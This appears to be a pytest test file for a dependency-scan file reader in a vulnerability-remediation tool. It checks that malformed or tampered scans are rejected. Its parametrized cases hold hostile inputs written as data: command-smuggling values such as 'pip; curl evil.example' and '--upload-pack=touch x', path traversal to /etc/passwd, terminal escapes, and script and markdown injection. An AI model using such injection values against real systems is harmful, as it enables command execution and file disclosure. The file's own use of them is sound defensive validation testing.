"""A scan in a file: what `fettle scan` wrote is taken, and nothing else, whoever wrote it."""

from __future__ import annotations

import json
import os

import pytest

from agents.errors import ConfigError
from agents.pipelines.remediate.findings.alert_group import AlertGroup, FoundCopy, TriageResult
from agents.pipelines.remediate.ladder import Group
from app.operator.remediation_report import GroupReport, Report, RepositoryReport, group_fields
from app.operator.repository_reference import RepositoryName
from app.operator.scan_file import LARGEST, LONGEST, read_scan
from tests.agents.pipelines.remediate.ladder.conftest import advisory

COMMIT = "c" * 40
SHOP = RepositoryName("octo", "shop")


def make_scan(**more):
    one = advisory(
        "jinja2", "< 3.1.4", "GHSA-h75v-3vvj-5mfj", alert=5, manifest="api/poetry.lock",
        cve_id="CVE-2024-34064", summary="<img src=x> \x1b[2J ![](http://evil.example/x) @everyone",
    )  # fmt: skip
    group = Group(
        repository="octo/shop", ecosystem="pip", package="jinja2", directory="api",
        manifests=("api/poetry.lock",), advisories=(one,),
    )  # fmt: skip
    triage = TriageResult(
        alert=5, ghsa_id=one.ghsa_id, severity="high", affected="yes", risk="high"
    )
    copy = FoundCopy(version="3.1.3", vulnerable=True, paths=(("flask", "jinja2"),))
    values = {"commit": COMMIT, "group": group, "copies": (copy,), "triage": (triage,)}
    return AlertGroup.model_validate(values | more)


def scan_of(*groups, name="octo/shop"):
    each = [
        GroupReport.model_validate(
            {**group_fields(g.group), "result": "scanned", "text": "t", "found": g}
        )
        for g in groups
    ]
    return Report.from_repositories(
        "scan", [RepositoryReport(repository=name, commit=COMMIT, groups=each)]
    )


@pytest.fixture
def write(tmp_path):
    def write(content):
        file = tmp_path / "scan.json"
        text = content if isinstance(content, str | bytes) else json.dumps(content)
        file.write_bytes(text if isinstance(text, bytes) else text.encode())
        return file

    return write


def test_it_comes_back_as_it_was(write):
    scan = read_scan(write(scan_of(make_scan()).as_json))
    assert scan.find_groups(RepositoryName("Octo", "Shop")) == (make_scan(),)
    scan.require(SHOP, COMMIT)
    assert scan.get_only() == SHOP


def test_it_has_to_fit_repository_and_commit(write):
    scan = read_scan(write(scan_of(make_scan()).as_json))
    with pytest.raises(ConfigError, match="is about octo/shop, and not about octo/lib"):
        scan.find_groups(RepositoryName("octo", "lib"))
    with pytest.raises(ConfigError, match="looked at cccccccccccc of octo/shop, which stands at d"):
        scan.require(SHOP, "d" * 40)


def change_scan(*path, value):
    """Return a scan in which one thing was written otherwise."""
    report = json.loads(scan_of(make_scan()).as_json)
    part = report["repositories"][0]["groups"][0]["found"]
    for name in path[:-1]:
        part = part[name]
    part[path[-1]] = value
    return report


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("group", "repository"), "octo/lib"),
        (("group", "package"), "--index-url=http://evil.example"),
        (("group", "package"), "jinja2\x1b[2J"),
        (("group", "package"), "<script>"),
        (("group", "package"), "jinja2 | x"),
        (("group", "ecosystem"), "pip; curl evil.example"),
        (("group", "directory"), "../../etc"),
        (("group", "directory"), "/etc"),
        (("group", "manifests"), ["api/poetry.lock", "../../etc/passwd"]),
        (("group", "manifests"), ["/etc/passwd"]),
        (("group", "advisories"), []),
        (("group", "advisories", 0, "package"), "flask"),
        (("group", "advisories", 0, "manifest"), "web/poetry.lock"),
        (("group", "advisories", 0, "ghsa_id"), "[click](http://evil.example)"),
        (("group", "advisories", 0, "cve_id"), "`x`"),
        (("group", "advisories", 0, "vulnerable"), "< 1 `@everyone`"),
        (("group", "advisories", 0, "first_patched"), "1.0\n\n# More"),
        (("group", "advisories", 0, "alert"), -1),
        (("group", "advisories", 0, "extra"), "x"),
        (("group", "advisories", 0, "description"), "x" * (LONGEST + 1)),
        (("commit",), "main"),
        (("commit",), "--upload-pack=touch x"),
        (("triage", 0, "alert"), 6),
        (("copies", 0, "version"), "1.0\x07"),
        (("tool",), 7),
    ],
)
def test_what_a_scan_cannot_say_is_refused(write, path, value):
    with pytest.raises(ConfigError) as caught:
        read_scan(write(change_scan(*path, value=value)))
    told = str(caught.value)
    assert "cannot be used" in told
    assert "fettle scan" in told
    assert told.isprintable()
    assert "evil" not in told


@pytest.mark.parametrize(
    ("content", "told"),
    [
        ("", "not JSON"),
        (b"\xff\xfe", "not JSON"),
        ("[" * 5000, "not JSON"),
        ("{" + '"a":{' * 900 + "}" * 901, "format"),
        ("[]", "format"),
        ({"format": "fettle-remediation/2"}, "format"),
        ({"format": "fettle-remediation/1"}, "`command`"),
        ({"format": "fettle-remediation/1", "x": ["x"] * 30_000}, "more than 20,000 entries"),
    ],
)
def test_what_is_no_scan_is_refused(write, content, told):
    with pytest.raises(ConfigError, match=told):
        read_scan(write(content))


def test_a_scan_is_of_one_commit_and_names_each_package_once(write):
    with pytest.raises(ConfigError, match="twice"):
        read_scan(write(scan_of(make_scan(), make_scan()).as_json))
    other = make_scan().model_copy(update={"commit": "d" * 40})
    other = other.model_copy(update={"group": other.group.model_copy(update={"directory": ""})})
    one = other.group.advisories[0].model_copy(update={"manifest": "poetry.lock"})
    other = other.model_copy(
        update={"group": other.group.model_copy(update={"advisories": (one,), "manifests": ()})}
    )
    with pytest.raises(ConfigError, match="several commits"):
        read_scan(write(scan_of(make_scan(), other).as_json))


def test_the_report_of_a_remediation_is_no_scan(write):
    report = scan_of(make_scan()).model_copy(update={"command": "remediate"})
    with pytest.raises(ConfigError, match="report of a remediation"):
        read_scan(write(report.as_json))


def test_a_file_that_is_too_large_or_not_there_is_told(write, tmp_path):
    with pytest.raises(ConfigError, match="20 MB"):
        read_scan(write(b" " * (LARGEST + 1)))
    with pytest.raises(ConfigError, match="cannot be read"):
        read_scan(tmp_path / "none.json")
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(ConfigError, match="no file"):
        read_scan(tmp_path / "pipe")
